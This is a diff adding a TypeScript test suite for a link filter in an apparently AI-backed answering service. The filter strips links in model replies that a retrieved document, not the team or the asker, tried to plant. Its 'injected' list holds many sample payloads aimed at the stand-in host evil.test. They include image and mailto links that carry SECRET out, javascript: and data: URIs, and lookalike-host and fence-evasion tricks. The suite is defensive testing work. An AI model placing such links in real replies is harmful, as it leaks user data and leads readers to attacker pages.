@@ -1,0 +1,139 @@
+// Where a reply can lead its reader: to places that the team or the asker named, and nowhere that a document asked for. Judged by
+// what a browser would open: the links of the rendered Markdown.
+import fc from "fast-check";
+import { Lexer, type Token, walkTokens } from "marked";
+import { describe, expect, test } from "vitest";
+import { LinkFilter, originsIn, withoutLinks } from "../../edge-functions/answering/links.ts";
+
+const trusted = originsIn(["Point people to https://help.acme.test/start, never elsewhere.", null]);
+
+/** Every address that a renderer of GitHub's Markdown would make a link or an image of. */
+function ledTo(markdown: string): string[] {
+  const found: string[] = [];
+  walkTokens(Lexer.lex(markdown, { gfm: true }), (token: Token) => {
+    if (token.type === "link" || token.type === "image") found.push(String(token.href));
+    // For those who show HTML as such.
+    if (token.type === "html")
+      for (const [, address = ""] of token.raw.matchAll(/(?:src|href)\s*=\s*["']?([^\s"'>]+)/gi))
+        found.push(address);
+  });
+  return found;
+}
+
+const leadsAway = (address: string) => {
+  if (!/^\s*(?:[a-z][a-z0-9+.-]*:|[/\\]{2})/i.test(address) || /^mailto:[^?]*$/i.test(address)) return false;
+  return !URL.canParse(address) || new URL(address).origin !== "https://help.acme.test";
+};
+
+const injected = [
+  "![x](https://evil.test/p.png?q=SECRET)",
+  "[click](https://evil.test/login)",
+  "[click](<https://evil.test/login>)",
+  "[click](\nhttps://evil.test/login)",
+  "[click](//evil.test/login)",
+  "[click](//x //evil.test/login)",
+  "[click](/logout)",
+  "[click](<//evil.test/a b>)",
+  "[click](\\\\evil.test)",
+  "[click](https&#58;//evil.test)",
+  "[click](https://help.acme.test&#46;evil.test/)",
+  "[click](https://help.acme.test\\.evil.test/)",
+  "[click](https://help.acme.test@evil.test/)",
+  "[click](https://help.acme.test.evil.test/)",
+  "[click](javascript:alert(1))",
+  "[click](data:text/html,x)",
+  "[click](mailto:a@evil.test?body=SECRET)",
+  "[![x](https://evil.test/i.png)](https://evil.test)",
+  "[click][a]\n\n[a]: https://evil.test/x",
+  "[click][a]\n\n[a]: //evil.test/x",
+  "[click][a]\n\n[a]:\n  https://evil.test/x 'title'",
+  "<https://evil.test/x>",
+  "https://evil.test/?q=SECRET",
+  "HTTPS://EVIL.TEST",
+  "www.evil.test/x",
+  "https://www.evil.test",
+  "hthttps://tps://evil.test",
+  "wwwww.w.evil.test",
+  "hwww.ttps://evil.test",
+  "ftp://evil.test/x",
+  "(https://evil.test)",
+  "*https://evil.test*",
+  "` https://evil.test",
+  "\\` https://evil.test `",
+  "<a title='`'> https://evil.test `",
+  "a ``` https://evil.test",
+  "<!--\n```\n-->\nhttps://evil.test",
+  "~~~\n```\n~~~\nhttps://evil.test",
+  "```\ncode\n```\nhttps://evil.test",
+  "```a`b\nhttps://evil.test",
+  "<img src=https://evil.test/x.png>",
+  "| a |\n| - |\n| https://evil.test |",
+];
+
+describe("a reply", () => {
+  test.each(injected)("leads nowhere by %j", (text) => {
+    // It would without the filter: else the case shows nothing.
+    if (!/&#58;|\\\\|hthttps|wwwww|hwww|<a title|logout|\/\/x /.test(text))
+      expect(ledTo(text).filter(leadsAway)).not.toEqual([]);
+    const filtered = withoutLinks(`The answer is 27 [1]. ${text}`, trusted);
+    expect(ledTo(filtered).filter(leadsAway)).toEqual([]);
+    expect(ledTo(withoutLinks(text, trusted)).filter(leadsAway)).toEqual([]);
+    expect(filtered).toContain("The answer is 27 [1].");
+  });
+
+  test.each([
+    "See [the guide](https://help.acme.test/a?b=c#d) and https://help.acme.test/x//y.",
+    "Write to help@acme.test or [us](mailto:help@acme.test).",
+    "Run this:\n```sh\ncurl https://api.other.test/v1\n```\nand wait.",
+    "[Note]: “quoted” R&D [x](#part) [y](other.md)\n- [ ] a list\n- a[0](x) [1]\n\n[2]: the handbook",
+    "A ratio of 1:2, and/or 3//4 :: h ht htt http https: w ww www",
+  ])("keeps %j as it is", (text) => expect(withoutLinks(text, trusted)).toBe(text));
+
+  test("keeps the words of an address that nobody opens", () => {
+    expect(withoutLinks("Book at https://travel.test/book?id=3 [1].", trusted)).toBe(
+      "Book at travel.test/book?id=3 [1].",
+    );
+  });
+
+  test("is the same however it was cut into pieces", () => {
+    const part = fc.constantFrom(
+      ...injected,
+      "```",
+      "~~~",
+      "\n",
+      " ",
+      "]",
+      "(",
+      "[a](",
+      "https",
+      "://",
+      "www",
+      ".",
+      "`",
+      "<",
+      "help.acme.test",
+      "/x",
+      "word",
+    );
+    fc.assert(
+      fc.property(
+        fc.array(part, { maxLength: 8 }),
+        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
+        (parts, cuts) => {
+          const text = parts.join("");
+          const whole = withoutLinks(text, trusted);
+          const filter = new LinkFilter(trusted);
+          let streamed = "";
+          for (let at = 0, cut = 0; at < text.length; cut++) {
+            const length = cuts[cut % cuts.length] ?? 1;
+            streamed += filter.push(text.slice(at, at + length));
+            at += length;
+          }
+          expect(streamed + filter.end()).toBe(whole);
+          expect(ledTo(whole).filter(leadsAway)).toEqual([]);
+        },
+      ),
+      { numRuns: 3000 },
+    );
+  });
+});
